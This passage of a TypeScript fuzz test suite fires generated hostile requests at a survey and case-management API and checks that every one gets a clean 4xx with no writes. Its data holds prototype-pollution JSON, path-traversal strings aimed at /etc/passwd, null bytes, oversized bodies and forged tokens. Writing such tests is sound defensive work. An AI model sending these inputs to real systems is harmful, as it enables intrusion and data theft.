    '{"__proto__":{"polluted":"yes","admin":true},"score":11}',
    '{"constructor":{"prototype":{"polluted":"yes"}},"score":"x"}',
    '{"score":{"__proto__":{"polluted":"yes"}}}',
  );
  const deepJson = fc
    .integer({ min: 100, max: 7000 })
    .map((depth) => `${'['.repeat(depth)}${']'.repeat(depth)}`);

  /** An answer body that can never be recorded: its score (the last `score` key, or the first form field) is bad. */
  const unrecordableAnswer = fc.oneof(
    fc
      .tuple(
        fc.array(fc.tuple(anyKey, fc.jsonValue({ maxDepth: 3 })), { maxLength: 4 }),
        fc.option(fc.oneof(text, fc.jsonValue({ maxDepth: 2 }))),
        fc.option(fc.oneof(fc.array(fc.oneof(fc.constantFrom(...reasonCodes), text)), fc.jsonValue())),
        invalidScore,
        fc.constantFrom(...jsonTypes),
      )
      .map(([extra, comment, reasons, score, type]) => ({
        type,
        body: jsonObject([
          ...extra,
          ['comment', comment ?? undefined],
          ['reasons', reasons ?? undefined],
          ['score', score],
        ]),
      })),
    fc
      .tuple(
        invalidScoreText,
        fc.array(fc.tuple(anyKey, text), { maxLength: 5 }),
        fc.constantFrom(
          'application/x-www-form-urlencoded',
          'application/x-www-form-urlencoded; charset=iso-8859-1',
        ),
      )
      .map(([score, rest, type]) => ({ type, body: formOf([['score', score], ...rest]) })),
    fc.tuple(pollution, fc.constantFrom(...jsonTypes)).map(([body, type]) => ({ type, body })),
    fc.tuple(deepJson, fc.constantFrom(...jsonTypes)).map(([body, type]) => ({ type, body })),
    // Valid answers, but malformed JSON, a byte order mark, or a wrong content type.
    fc
      .constantFrom(
        '{"score":5',
        '\ufeff{"score":5}',
        '{"score":5,}',
        "{'score':5}",
        'score=5',
        'null',
        '[{"score":5}]',
      )
      .map((body) => ({ type: 'application/json', body })),
    fc
      .tuple(fc.constantFrom('{"score":5}', 'score=5&comment=hi'), fc.constantFrom(...wrongTypes))
      .map(([body, type]) => ({ type, body })),
    // Larger than a survey answer may be: 16 KB, 1 MB, 2 MB of an otherwise valid answer.
    fc
      .tuple(fc.constantFrom(16 * 1024 + 1, 1024 * 1024, 2 * 1024 * 1024), fc.constantFrom(...jsonTypes))
      .map(([size, type]) => ({ type, body: JSON.stringify({ score: 5, comment: 'y'.repeat(size) }) })),
  );
  const anyAnswer = fc.oneof(
    unrecordableAnswer,
    fc
      .record({
        score: fc.integer({ min: 0, max: 10 }),
        comment: text,
        reasons: fc.subarray([...reasonCodes]),
      })
      .map((answer) => ({ type: 'application/json', body: JSON.stringify(answer) })),
  );
  /** Content types whose body API Gateway hands over as text (others arrive base64-encoded). */
  const textual = (type: string) => /^(text\/|application\/(json|x-www-form-urlencoded|xml))/i.test(type);
  const isOversized = (body: string) => Buffer.byteLength(body) > 16 * 1024;

  const malformedSegment = fc.constantFrom(...'% %zz %E0%A4%A %C0%AF %ED%A0%80 %FF a%2 %u0041'.split(' '));
  const strangeToken = fc.oneof(
    fc.string({ unit: 'binary', minLength: 1, maxLength: 80 }).map(percentEncode),
    fc.constantFrom(...hostileText).map(percentEncode),
    fc.constantFrom(..."..%2F..%2Fetc%2Fpasswd %2F %2e%2e%2f %252F %00 ~ $ ' * ; ,".split(' ')),
    fc.stringMatching(/^[A-Za-z0-9_-]{1,21}$/),
    fc.stringMatching(/^[A-Za-z0-9_-]{65,300}$/),
    fc.constant('a'.repeat(8000)),
  );
  type TokenKind = 'open' | 'answered' | 'expired' | 'unknown' | 'strange' | 'malformed';
  const surveyTokens = (kinds: readonly TokenKind[]) =>
    fc.oneof(
      ...kinds.map((kind) =>
        (kind === 'open'
          ? fc.constantFrom(tokenOf('C6'), tokenOf('C4'))
          : kind === 'answered'
            ? fc.constantFrom(tokenOf('C1'), tokenOf('C5'))
            : kind === 'expired'
              ? fc.constant(tokenOf('C3'))
              : kind === 'unknown'
                ? fc.stringMatching(/^[A-Za-z0-9_-]{22}$/)
                : kind === 'strange'
                  ? strangeToken
                  : malformedSegment
        ).map((token) => ({ kind, token })),
      ),
    );
  const query = fc.oneof(
    fc.constant(''),
    fc
      .array(fc.tuple(anyKey, fc.oneof(text, invalidScoreText, fc.integer().map(String))), { maxLength: 4 })
      .map((pairs) => `?${formOf(pairs)}`),
    fc.constantFrom(
      ...'?score=1&score=2 ?score=10 ?score=-1 ?score[]=1 ?%zz=1 ?a=% ?=&&== ?score=%00'.split(' '),
    ),
  );

  it('answers generated survey requests with clear 4xx and writes nothing', async () => {
    const getSurvey = fc
      .tuple(
        surveyTokens(['open', 'answered', 'expired', 'unknown', 'strange', 'malformed']),
        query,
        randomHeaders,
      )
      .map(
        ([{ kind, token }, search, headers]): Probe => ({
          label: `GET survey, ${kind} token`,
          method: 'GET',
          path: `/s/${token}${search}`,
          headers,
          allowed:
            kind === 'open' || kind === 'answered'
              ? [200]
              : kind === 'expired'
                ? [410]
                : kind === 'malformed'
                  ? [400]
                  : [400, 404],
          hostile: kind !== 'open' && kind !== 'answered',
        }),
      );
    const postUnrecordable = fc
      .tuple(surveyTokens(['open', 'answered']), unrecordableAnswer, randomHeaders)
      .map(
        ([{ kind, token }, { type, body }, headers]): Probe => ({
          label: `POST bad answer, ${kind} token, ${type}`,
          method: 'POST',
          path: `/s/${token}`,
          headers: { ...headers, 'content-type': type },
          body,
          allowed: [isOversized(body) ? 413 : 400],
          hostile: true,
        }),
      );
    const postElsewhere = fc
      .tuple(surveyTokens(['expired', 'unknown', 'strange', 'malformed']), anyAnswer, randomHeaders)
      .map(
        ([{ kind, token }, { type, body }, headers]): Probe => ({
          label: `POST answer, ${kind} token, ${type}`,
          method: 'POST',
          path: `/s/${token}`,
          headers: { ...headers, 'content-type': type },
          body,
          allowed:
            kind === 'malformed' ? [400] : isOversized(body) ? [413] : [400, kind === 'expired' ? 410 : 404],
          hostile: true,
        }),
      );
    await fuzz(getSurvey, 250, 1);
    await fuzz(postUnrecordable, 400, 2);
    await fuzz(postElsewhere, 300, 3);
  });

  it('answers generated unsubscribe requests without unsubscribing anyone', async () => {
    const getLink = fc
      .tuple(
        surveyTokens(['open', 'answered', 'expired', 'unknown', 'strange', 'malformed']),
        query,
        randomHeaders,
      )
      .map(
        ([{ kind, token }, search, headers]): Probe => ({
          label: `GET unsubscribe, ${kind} token`,
          method: 'GET',
          path: `/u/${token}${search}`,
          headers,
          allowed: ['open', 'answered', 'expired'].includes(kind)
            ? [200]
            : kind === 'malformed'
              ? [400]
              : [400, 404],
          hostile: !['open', 'answered', 'expired'].includes(kind),
        }),
      );
    const postLink = fc
      .tuple(surveyTokens(['unknown', 'strange', 'malformed']), anyAnswer, randomHeaders)
      .map(
        ([{ kind, token }, { type, body }, headers]): Probe => ({
          label: `POST unsubscribe, ${kind} token`,
          method: 'POST',
          path: `/u/${token}`,
          headers: { ...headers, 'content-type': type },
          body,
          allowed: kind === 'malformed' ? [400] : [400, 404],
          hostile: true,
        }),
      );
    await fuzz(getLink, 150, 4);
    await fuzz(postLink, 150, 5);
  });

  it('answers generated paths, methods and headers with 4xx, and never lets a path around the token check', async () => {
    const segment = fc.oneof(
      fc.constant(''),
      fc.constantFrom(
        ...[
          's u m d r cases report dashboard exports health M CASES admin .env .git',
          '.. . %2e%2e %2e %2F %00 etc passwd %252e%252e %c0%ae%c0%ae ..; ;',
        ]
          .join(' ')
          .split(' '),
      ),
      fc.webSegment(),
      text.map(percentEncode),
      malformedSegment,
    );
    const path = fc.oneof(
      fc.array(segment, { maxLength: 7 }).map((segments) => `/${segments.join('/')}`),
      fc.constantFrom(
        ...[
          '/s/../../etc/passwd /s/..%2F..%2Fetc%2Fpasswd /%2e%2e/%2e%2e/etc/passwd /health/../m/cases',
          '/d/../r/report /m/./cases //m/cases /M/CASES /m/cases/ /m/cases// /m%2Fcases /m/cases%2F',
          '/m/cases;.js /r/exports/..%2F..%2Fm%2Fcases /health%00 http://evil.example/m/cases',
        ]
          .join(' ')
          .split(' '),
        '*',
        `/${'a'.repeat(6000)}`,
        `/m/cases/${'%2e'.repeat(3000)}`,
      ),
    );
    const method = fc.constantFrom(...'GET POST PUT DELETE PATCH OPTIONS HEAD PROPFIND FOO'.split(' '));
    const randomRequest = fc.tuple(method, path, query, randomHeaders, fc.option(anyAnswer)).map(
      ([verb, where, search, headers, answer]): Probe => ({
        label: `${verb} a generated path`,
        method: verb,
        path: `${where}${search}`,
        headers: { ...headers, ...(answer && { 'content-type': answer.type }) },
        body: verb === 'GET' || verb === 'HEAD' ? undefined : answer?.body,
        // A generated path may land on a public page (200); a manager route answers 401 without a token.
        allowed: [200, 400, 401, 404, 405, 413, 431],
        hostile: true,
      }),
    );
    const publicPages = fc
      .tuple(
        fc.constantFrom('/health', '/m', '/d'),
        query,
        randomHeaders,
        fc.constantFrom('GET', 'POST', 'PUT'),
      )
      .map(
        ([where, search, headers, verb]): Probe => ({
          label: `${verb} ${where}`,
          method: verb,
          path: `${where}${search}`,
          headers,
          body: verb === 'GET' ? undefined : '{"score":5}',
          allowed: verb === 'GET' ? [200] : [404, 405],
          hostile: verb !== 'GET',
        }),
      );
    await fuzz(randomRequest, 450, 6);
    await fuzz(publicPages, 100, 7);
  });

  it('refuses a body larger than API Gateway takes, and headers larger than a server takes', async () => {
    for (const path of ['/s/x', `/s/${tokenOf('C6')}`, '/m/cases/x', '/health']) {
      await probe({
        label: `11 MB to ${path}`,
        method: 'POST',
        path,
        headers: { 'content-type': 'application/json' },
        body: Buffer.alloc(11 * 1024 * 1024, 'a'),
        allowed: [413],
        hostile: true,
      });
    }
    await probe({
      label: '40 KB of headers',
      method: 'GET',
      path: '/health',
      headers: { 'x-big': 'b'.repeat(40_000) },
      allowed: [431],
      hostile: true,
    });
  });

  it('answers generated manager requests within the caller’s stores, and writes nothing', async () => {
    const caseIds = fc.oneof(
      fc.constantFrom(
        { kind: 'S1 case', id: caseOf.get('C1') ?? '' },
        { kind: 'S2 case', id: caseOf.get('C5') ?? '' },
      ),
      fc.stringMatching(/^[A-Za-z0-9_-]{16}$/).map((id) => ({ kind: 'unknown', id })),
      fc
        .oneof(text.map(percentEncode), fc.constantFrom(...hostileText).map(percentEncode))
        .filter((id) => id !== '')
        .map((id) => ({ kind: 'unknown', id })),
      fc.integer({ min: 1025, max: 6000 }).map((length) => ({ kind: 'unknown', id: 'c'.repeat(length) })),
      fc.integer({ min: 700, max: 2000 }).map((length) => ({ kind: 'unknown', id: '%C3%A9'.repeat(length) })),
      malformedSegment.map((id) => ({ kind: 'malformed', id })),
    );
    const who = fc.constantFrom<Who>('s1', 's2', 'marketing', 'customer', 'noEmail');
    const statusOfCase = (user: Who, kind: string) =>
      kind === 'malformed'
        ? 400
        : user === 'noEmail'
          ? 403
          : kind === 'S1 case'
            ? user === 's1'
              ? 200
              : 403
            : kind === 'S2 case'
              ? user === 's2'
                ? 200
                : 403
              : 404;
    const invalidUpdate = fc.oneof(
      fc
        .tuple(
          fc
            .oneof(text, fc.jsonValue({ maxDepth: 2 }))
            .filter((status) => !['contacted', 'resolved', 'no-answer'].includes(status as string)),
          fc.option(fc.oneof(text, fc.jsonValue({ maxDepth: 2 }))),
          fc.array(fc.tuple(anyKey, fc.jsonValue({ maxDepth: 2 })), { maxLength: 3 }),
        )
        .map(([status, note, extra]) =>
          jsonObject([...extra, ['note', note ?? undefined], ['status', status]]),
        ),
      fc.constantFrom(
        '{}',
        '',
        'null',
        '[]',
        'not json',
        '{"note":"   "}',
        '{"status":"contacted"',
        'status=contacted',
      ),
      fc.constant(JSON.stringify({ note: 'n'.repeat(2001) })),
      fc.constant(JSON.stringify({ status: 'x', note: 'n'.repeat(1024 * 1024) })),
      pollution,
      deepJson,
    );
    const validUpdate = fc
      .record({
        status: fc.constantFrom('contacted', 'resolved', 'no-answer'),
        note: fc.constantFrom('Called.', xssComment),
      })
      .map((update) => JSON.stringify(update));
    const readCase = fc.tuple(who, caseIds, query, randomHeaders).map(
      ([user, { kind, id }, search, headers]): Probe => ({
        label: `${user} GET ${kind}`,
        method: 'GET',
        path: `/m/cases/${id}${search}`,
        headers: { ...headers, authorization: bearer[user] },
        allowed: [statusOfCase(user, kind)],
        hostile: statusOfCase(user, kind) !== 200,
        sees: seesOf[user],
      }),
    );
    const updateCase = fc
      .tuple(
        who,
        caseIds,
        fc.oneof(
          invalidUpdate.map((body) => ({ valid: false, body })),
          validUpdate.map((body) => ({ valid: true, body })),
        ),
        randomHeaders,
      )
      // A valid update by the case's own manager is a write: not something to fuzz.
      .filter(([user, { kind }, { valid }]) => !(valid && statusOfCase(user, kind) === 200))
      .map(
        ([user, { kind, id }, { valid, body }, headers]): Probe => ({
          label: `${user} POST ${valid ? 'valid' : 'invalid'} update to ${kind}`,
          method: 'POST',
          path: `/m/cases/${id}`,
          headers: { ...headers, authorization: bearer[user], 'content-type': 'application/json' },
          body,
          allowed: [
            kind === 'malformed' ? 400 : user === 'noEmail' ? 403 : valid ? statusOfCase(user, kind) : 400,
          ],
          hostile: true,
          sees: seesOf[user],
        }),
      );
    const listCases = fc.tuple(who, query, randomHeaders).map(
      ([user, search, headers]): Probe => ({
        label: `${user} lists cases`,
        method: 'GET',
        path: `/m/cases${search}`,
        headers: { ...headers, authorization: bearer[user] },
        allowed: [user === 'noEmail' ? 403 : 200],
        hostile: user === 'noEmail',
        sees: seesOf[user],
      }),
    );
    await fuzz(readCase, 200, 8);
    await fuzz(updateCase, 250, 9);
    await fuzz(listCases, 60, 10);
  });

  it('answers generated report and export requests within the caller’s stores, and writes nothing', async () => {
    const who = fc.constantFrom<Who>('s1', 's2', 'marketing', 'customer', 'noEmail');
    const day = fc.oneof(
      fc
        .date({ min: new Date('0001-01-01'), max: new Date('9999-12-31'), noInvalidDate: true })
        .map((date) => date.toISOString().slice(0, 10)),
      fc.stringMatching(/^\d{4}-\d{2}-\d{2}$/),
      fc.constantFrom(
        '2026-02-30',
        '0000-00-00',
        '9999-99-99',
        '2026-1-1',
        'yesterday',
        '',
        '2026-01-01T00:00:00Z',
      ),
      text,
    );
    const reportQuery = fc
      .record(
        {
          range: fc.oneof(
            fc.tuple(day, day),
            fc
              .tuple(
                fc.date({ min: new Date('1970-01-01'), max: new Date('2100-01-01'), noInvalidDate: true }),
                fc.integer({ min: 0, max: 2100 }),
              )
              .map(
                ([from, days]) =>
                  [from.toISOString().slice(0, 10), addDays(from, days).toISOString().slice(0, 10)] as const,
              ),
          ),
          by: fc.oneof(fc.constantFrom('day', 'week', 'month', 'year', 'DAY'), text),
          store: fc.oneof(fc.constantFrom('S1', 'S2', 'S9', 'S1/../S2'), text),
          extra: fc.array(fc.tuple(anyKey, text), { maxLength: 3 }),
        },
        { requiredKeys: ['extra'] },
      )
      .map(({ range, by, store, extra }) => ({
        store,
        search: formOf([
          ...extra,
          ...(range
            ? ([
                ['from', range[0]],
                ['to', range[1]],
              ] as const)
            : []),
          ...(by === undefined ? [] : ([['by', by]] as const)),
          ...(store === undefined ? [] : ([['store', store]] as const)),
        ]),
      }));
    const report = fc
      .tuple(who, fc.constantFrom('/r/report', '/r/dashboard'), reportQuery, randomHeaders)
      .map(
        ([user, where, { store, search }, headers]): Probe => ({
          label: `${user} GET ${where} for ${store ?? 'every store'}`,
          method: 'GET',
          path: `${where}?${search}`,
          headers: { ...headers, authorization: bearer[user] },
          allowed:
            user === 'noEmail'
              ? [403]
              : store !== undefined && seesOf[user] !== 'all' && !seesOf[user].includes(store)
                ? [400, 403]
                : [200, 400, 403],
          hostile: true,
          sees: seesOf[user],
        }),
      );
    const invalidExport = fc.oneof(
      fc
        .tuple(
          fc
            .oneof(text, fc.jsonValue({ maxDepth: 2 }))
            .filter((segment) => !(segmentNames as readonly unknown[]).includes(segment)),
          fc.array(fc.tuple(anyKey, fc.jsonValue({ maxDepth: 2 })), { maxLength: 4 }),
        )
        .map(([segment, extra]) => jsonObject([...extra, ['segment', segment]])),
      fc.constantFrom(
        '',
        'null',
        '[]',
        '{}',
        'segment=promoters',
        '{"segment":"promoters"',
        '{"segment":"promoters","format":"xls"}',
      ),
      fc.constant(
        JSON.stringify({ segment: 'promoters', stores: Array.from({ length: 501 }, (_, n) => `S${n}`) }),
      ),
      fc.constant(JSON.stringify({ segment: 'promoters', attributeColumns: ['x'.repeat(1024 * 1024)] })),
      fc.constant(JSON.stringify({ segment: 'promoters', from: '2026-05-01', to: '2026-01-01' })),
      pollution,
      deepJson,
    );
    const validExport = fc
      .record({ segment: fc.constantFrom(...segmentNames), format: fc.constantFrom('csv', 'jsonl') })
      .map((request) => JSON.stringify(request));
    const startExport = fc
      .tuple(
        who,
        fc.oneof(
          invalidExport.map((body) => ({ valid: false, body })),
          validExport.map((body) => ({ valid: true, body })),
        ),
        fc.constantFrom(...jsonTypes, ...wrongTypes),
        randomHeaders,
      )
      // A valid request by marketing starts a job: a write, not something to fuzz.
      .filter(([user, { valid }]) => !(valid && user === 'marketing'))
      .map(
        ([user, { valid, body }, type, headers]): Probe => ({
          label: `${user} POST ${valid ? 'valid' : 'invalid'} export`,
          method: 'POST',
          path: '/r/exports',
          headers: { ...headers, authorization: bearer[user], 'content-type': type },
          body,
          // A body of a binary content type reaches the function base64-encoded, so it is not JSON.
          allowed: [user === 'noEmail' || (valid && textual(type)) ? 403 : 400],
          hostile: true,
          sees: seesOf[user],
        }),
      );
    const exportStatus = fc
      .tuple(
        who,
        fc.oneof(
          fc.constant({ kind: 'job', id: exportJobId }),
          fc.stringMatching(/^[A-Za-z0-9_-]{16}$/).map((id) => ({ kind: 'unknown', id })),
          text
            .map(percentEncode)
            .filter((id) => id !== '')
            .map((id) => ({ kind: 'unknown', id })),
          fc.integer({ min: 1025, max: 6000 }).map((length) => ({ kind: 'unknown', id: 'j'.repeat(length) })),
          malformedSegment.map((id) => ({ kind: 'malformed', id })),
        ),
        randomHeaders,
      )
      .map(
        ([user, { kind, id }, headers]): Probe => ({
          label: `${user} GET export ${kind}`,
          method: 'GET',
          path: `/r/exports/${id}`,
          headers: { ...headers, authorization: bearer[user] },
          allowed: [kind === 'malformed' ? 400 : user !== 'marketing' ? 403 : kind === 'job' ? 200 : 404],
          hostile: !(user === 'marketing' && kind === 'job'),
          sees: seesOf[user],
        }),
      );
    await fuzz(report, 250, 11);
    await fuzz(startExport, 200, 12);
    await fuzz(exportStatus, 120, 13);
  });

  it('refuses generated manager requests with forged tokens', async () => {
    const forgedRequest = fc
      .tuple(fc.constantFrom(...managerRoutes), fc.constantFrom(...forged), query, randomHeaders, anyAnswer)
      .map(
        ([route, { label, authorization }, search, headers, answer]): Probe => ({
          label: `${route.method} ${route.path} with ${label}`,
          method: route.method,
          path: `${pathOf(route.path, { caseId: caseOf.get('C1') ?? '', jobId: exportJobId })}${search}`,
          headers: { ...headers, 'content-type': answer.type, ...(authorization && { authorization }) },
          body: route.method === 'POST' ? answer.body : undefined,
          allowed: [401],
          hostile: true,
        }),
      );
    await fuzz(forgedRequest, 200, 14);
  });

  it('records a valid answer given with one customer’s link on that survey only', async () => {
    const body = JSON.stringify({ score: 9, comment: 'Fine, thanks.' });
    const headers = { 'content-type': 'application/json', accept: 'application/json' };
    for (const changed of [true, false]) {
      const reply = await probe({
        label: 'the deliberate answer',
        method: 'POST',
        path: `/s/${tokenOf('C4')}`,
        headers,
        body,
        allowed: [200],
        hostile: false,
      });
      expect(JSON.parse(reply.body)).toEqual({ score: 9, category: 'promoter', changed });
    }
  });

  it('wrote nothing but that answer: no other item, no queued task, no e-mail', async () => {
    const after = await snapshotTables();
    const unexpected = changesBetween(before, after).filter(
      (change) => change !== `changed ${surveysTable.id} ${JSON.stringify({ S: tokenOf('C4') })}`,
    );
    stats.unexpectedWrites += unexpected.length;
    stats.invariants += after.size + 2;
    expect(unexpected).toEqual([]);
    expect(changesBetween(before, after)).toHaveLength(1);
    expect(await queueDepths()).toEqual(queuesBefore);
    expect((await ourEmails()).length).toBe(mailBefore);
  });

  it('prints its figures, with nothing lost, no 5xx, no write and nothing unescaped', () => {
    const figure = (value: number) => value.toLocaleString('en-US');
    console.log(
      `fuzz: ${figure(stats.requests)} requests (${figure(stats.hostile)} faults injected), ` +
        `${figure(stats.serverErrors)} 5xx, ${figure(stats.unanswered)} unanswered, ` +
        `${figure(stats.unexpectedWrites)} unexpected writes, ${figure(stats.unescaped)} unescaped payloads, ` +
        `${figure(stats.invariants)} invariants checked`,
    );
    expect(stats.requests).toBeGreaterThan(2000);
    expect(stats).toMatchObject({ serverErrors: 0, unanswered: 0, unexpectedWrites: 0, unescaped: 0 });
  });
});
